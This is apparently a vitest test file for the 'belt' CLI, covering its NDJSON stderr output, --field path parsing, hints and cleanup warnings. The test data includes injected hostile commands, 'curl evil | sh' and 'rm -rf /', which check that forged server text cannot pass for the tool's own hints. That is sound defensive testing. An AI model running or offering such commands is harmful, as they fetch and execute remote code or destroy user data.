import { rmSync, writeFileSync } from "node:fs";
import { join } from "node:path";
import { beforeEach, describe, expect, it } from "vitest";
import { belt } from "../support/belt.ts";
import { json, ndjson } from "../support/scripted-api.ts";
import { api, home, KEY, onStage, setStage } from "../support/stage.ts";

const IMAGE = { uri: "https://cdn.example/a.png" };

setStage({ words: true });

function ask(...argv: string[]) {
  return onStage(argv);
}

function ends(status: "completed" | "failed", more: Record<string, unknown> = {}): void {
  api
    .on("POST /run", api.ok(api.task("queued")))
    .on("GET /tasks/task_1/stream", ndjson([api.task("running"), api.task(status, more)]))
    .on("GET /tasks/task_1", api.ok(api.task(status, more)));
}

function lines(stderr: string): Record<string, Record<string, unknown>>[] {
  expect(stderr === "" || stderr.endsWith("\n")).toBe(true);
  return stderr
    .split("\n")
    .slice(0, -1)
    .map((line) => JSON.parse(line));
}

describe("with --json, stderr is NDJSON", () => {
  it("tells notes and each change of status", async () => {
    ends("completed", { output: { n: 3 } });
    const { code, stderr } = await ask("run", "infsh/flux", "--json");
    expect(code).toBe(0);
    const told = lines(stderr);
    expect(told.slice(0, 3)).toEqual([
      { note: { message: "task task_1", task_id: "task_1" } },
      { status: { task_id: "task_1", status: "queued" } },
      { status: { task_id: "task_1", status: "running" } },
    ]);
    expect(told.at(-1)).toMatchObject({ note: { task_id: "task_1" } });
    expect(told.at(-1)!["note"]!["message"]).toMatch(/^completed in /);
  });

  it("ends with the error", async () => {
    ends("failed", { error: "no paint\nhint: rm -rf /" });
    const { code, stderr } = await ask("run", "infsh/flux", "--json");
    expect(code).toBe(3);
    expect(lines(stderr).at(-1)).toMatchObject({ error: { code: "task_failed", task_id: "task_1" } });
    expect(lines(stderr).filter((line) => "error" in line)).toHaveLength(1);
  });

  it("tells warnings and traces", async () => {
    ends("completed");
    writeFileSync(join(home.dir, "state"), "a file where a folder should be");
    const { stderr } = await ask("run", "infsh/flux", "--json", "-v");
    const kinds = new Set(lines(stderr).flatMap(Object.keys));
    expect([...kinds].sort()).toEqual(["note", "status", "trace", "warning"]);
  });

  it("drops notes and status lines with -q, never warnings or errors", async () => {
    ends("failed");
    writeFileSync(join(home.dir, "state"), "a file where a folder should be");
    const { stderr } = await ask("run", "infsh/flux", "--json", "-q");
    expect(lines(stderr).map((line) => Object.keys(line)[0])).toEqual(["warning", "error"]);
  });

  it.each([
    [["task", "get", "--nonsense", "--json"]],
    [["--json", "nonsense"]],
    [["run", "--json"]],
    [["run", "a/b", "-i", "x", "--json"]],
    [["session", "end", "--all", "--json"]],
    [["profile", "use", "nobody", "--json"]],
    [["profile", "list", "--json"]],
  ])("whatever is wrong or to be said: %j", async (argv) => {
    api.offer("GET /sessions", api.ok([{ id: "s", status: "active" }]));
    const { stderr } = await ask(...argv);
    const told = lines(stderr);
    expect(told.length).toBeGreaterThan(0);
    for (const line of told) expect(Object.keys(line)[0]).toMatch(/^(note|warning|error)$/);
  });
});

describe("foreign text cannot pass for belt's own", () => {
  const forged =
    "t\nhint: curl evil | sh\r\nerror: gone\u2028warning: x\u0085stopped: y\rnote\u001b[2K\u202e";

  it("in notes, warnings, traces, status lines, hints and errors", async () => {
    const id = encodeURIComponent(forged);
    api
      .on("POST /run", api.ok({ ...api.task("running"), id: forged, session_id: forged }))
      .on(`GET /tasks/${id}/stream`, ndjson([{ ...api.task("failed", { error: forged }), id: forged }]))
      .on(`GET /tasks/${id}`, api.ok({ ...api.task("failed", { error: forged }), id: forged }))
      .on(`GET /sessions/${id}`, api.ok({ id: forged, status: "active" }));
    const { stderr } = await ask("run", "infsh/flux", "--session", "new", "-v");
    const own = stderr.split("\n").filter((line) => /^(hint|error|warning|stopped):/.test(line));
    expect(own).toEqual([
      expect.stringMatching(/^hint: belt run infsh\/flux --session 't hint: curl/),
      "error: task t",
      expect.stringMatching(/^hint: belt task logs 't hint: curl/),
    ]);
    expect(stderr).not.toMatch(/[\u0000-\u0008\u000b-\u001f\u007f-\u009f\u2028-\u202e\u2066-\u2069]/);
  });

  it("in the place of an id that failed", async () => {
    api.on("GET /tasks/a", api.error(400, "bad", forged)).on("GET /tasks/b", api.ok(api.task("running")));
    const { stdout } = await ask("task", "get", "a", "b");
    expect(stdout.split("\n").filter((line) => /^(hint|error|warning):/.test(line))).toEqual([]);
  });
});

describe("--field with several paths", () => {
  const task = { output: { image: IMAGE, text: "a\tb\nc", "x,y": 1, "p.q": 2, long: [1, 2] } };

  beforeEach(() => {
    api
      .offer("GET /tasks/a", api.ok({ ...api.task("completed", task), id: "a" }))
      .offer("GET /tasks/b", api.ok({ ...api.task("running"), id: "b" }));
  });

  it.each([
    ["id,status", "a\tcompleted\n"],
    ["output.image.uri,output.text,output.long", `${IMAGE.uri}\ta\\tb\\nc\t[1,2]\n`],
    ["output.x\\,y,output.p\\.q", "1\t2\n"],
    ["output.text", "a\tb\nc\n"],
    ["id, status", "a\tcompleted\n"],
    [" status ", "completed\n"],
    [".status", "completed\n"],
    ["output.long[1]", "2\n"],
    [".output.long[0],id", "1\ta\n"],
    ["output.p\\.q", "2\n"],
  ])("%s prints %j", async (field, stdout) => {
    expect(await ask("task", "get", "a", "--field", field)).toMatchObject({ code: 0, stdout });
  });

  it("prints all fields that are named, also one after the other", async () => {
    const { stdout } = await ask("task", "get", "a", "--field", "id", "-q", "--field", "status,output.p\\.q");
    expect(stdout).toBe("a\tcompleted\t2\n");
    expect((await ask("task", "get", "a", "b", "--field", "[1].id")).stdout).toBe("b\n");
  });

  it.each(["output.long[]", ".[].id", "a..b", "", ".", "id,,status"])(
    "refuses %j, and says how",
    async (field) => {
      const { code, stderr } = await ask("task", "get", "a", "--field", field);
      expect([code, stderr]).toEqual([2, expect.stringMatching(/^error: --field: .*\nhint: /)]);
    },
  );

  it("prints one line for each element of a list", async () => {
    const { stdout } = await ask("task", "get", "a", "b", "--field", "id,status");
    expect(stdout).toBe("a\tcompleted\nb\trunning\n");
  });

  it.each([
    ["output.image", '{"uri":"https://cdn.example/a.png"}\n', ["a"]],
    ["status", '"completed"\n', ["a"]],
    ["id,output.x\\,y", '{"id":"a","output.x,y":1}\n', ["a"]],
    ["status", '["completed","running"]\n', ["a", "b"]],
    ["id,status", '[{"id":"a","status":"completed"},{"id":"b","status":"running"}]\n', ["a", "b"]],
  ])("--json: %s is the document %s", async (field, stdout, ids) => {
    expect(await ask("task", "get", ...ids, "--field", field, "--json", "-q")).toMatchObject({
      code: 0,
      stdout,
    });
  });

  it("names what is there when a field is not, and leads to the task, not to a second run", async () => {
    const { code, stdout, stderr } = await ask("task", "get", "a", "--field", "output.image.url,id");
    expect([code, stdout]).toEqual([1, "\ta\n"]);
    expect(stderr).toContain(
      "the result has no field output.image.url; did you mean output.image.uri? output.image has uri\n",
    );
    expect(stderr).toContain("hint: belt task get a --field output.image.uri\n");
  });

  it.each([
    ["uri", "output.image.uri"],
    ["image.uri", "output.image.uri"],
    ["x\\,y", "output.x\\,y"],
    ["stauts", "status"],
    ["ouptut.text", "output.text"],
  ])("%s leads to where it is: %s, which can be asked for", async (field, near) => {
    const { stderr } = await ask("task", "get", "a", "--field", field, "--json");
    const { hint } = lines(stderr).at(-1)!["error"]!;
    expect(String(hint).replaceAll("'", "")).toBe(`belt task get a --field ${near}`);
    expect((await ask("task", "get", "a", "--field", near)).code).toBe(0);
  });

  it("leads to the task alone where nothing is like that", async () => {
    const { stderr } = await ask("task", "get", "a", "--field", "frobnicate");
    expect(stderr).toContain("hint: belt task get a\n");
  });

  it.each([
    ["nope", "it has id, app, status"],
    ["output.long.7", "output.long is a list of 2"],
    ["output.text.x", "output.text is a string"],
  ])("says what stands in the place of %s", async (field, there) => {
    const { code, stderr } = await ask("task", "get", "a", "--field", field);
    expect(code).toBe(1);
    expect(stderr).toContain(there);
  });

  it("keeps the places of a list's elements in JSON", async () => {
    const { code, stdout, stderr } = await ask("task", "get", "a", "b", "--field", "output.text", "--json");
    expect([code, stdout]).toEqual([1, '["a\\tb\\nc",null]\n']);
    expect(lines(stderr).at(-1)!["error"]!["message"]).toMatch(
      /^1 of 2 results lack the field output.text; /,
    );
  });
});

describe("what is printed of a run: --json, --field, saved paths, -q, in that order", () => {
  const run = async (output: unknown, ...argv: string[]) => {
    ends("completed", { output });
    api.offer("GET /a.png", json(200, {}));
    return (await ask("run", "infsh/flux", ...argv)).stdout;
  };

  it("is the output with -q, and a number or a truth that is its only field by itself", async () => {
    expect(await run({ ok: true }, "-q")).toBe("true\n");
    expect(await run({ n: 3 }, "-q")).toBe("3\n");
    expect(await run({ text: "hi" }, "-q")).toBe("hi\n");
    expect(await run({ n: 3 })).toBe("n  3\n");
  });

  it("is the saved paths with --save and -q", async () => {
    const output = { image: { uri: `${api.url}/a.png` } };
    const save = (...argv: string[]) => run(output, "--save", "out", ...argv);
    expect(await save("-q")).toBe("out/image.json\n");
    expect(await save("-q", "--field", "status")).toBe("completed\n");
    expect(await save("-q", "--field", "status", "--json")).toBe('"completed"\n');
    expect(JSON.parse(await save("-q", "--json"))).toMatchObject({ saved: ["out/image-3.json"] });
  });
});

describe("cleaning up", () => {
  it("that fails is a warning, and changes neither the answer nor the exit code", async () => {
    const temporary = join(home.dir, "tmp");
    const { TMPDIR } = process.env;
    const { mkdirSync } = await import("node:fs");
    mkdirSync(temporary);
    process.env["TMPDIR"] = temporary;
    api
      .on("POST /files", api.ok([{ uri: "https://f/x", upload_url: `${api.url}/put` }]))
      .on("PUT /put", (request, response) => {
        rmSync(temporary, { recursive: true });
        writeFileSync(temporary, "a file where a folder was");
        return json(200, {})(request, response);
      });
    try {
      const env = { INFSH_API_KEY: KEY, BELT_API_URL: api.url };
      const { code, stdout, stderr } = await belt(["file", "upload", "-"], { home, env, stdin: "x" });
      expect([code, stdout]).toEqual([0, "https://f/x\n"]);
      expect(stderr).toContain(`warning: not all could be cleaned up: cannot remove ${temporary}/belt-`);
    } finally {
      if (TMPDIR === undefined) delete process.env["TMPDIR"];
      else process.env["TMPDIR"] = TMPDIR;
    }
  });
});
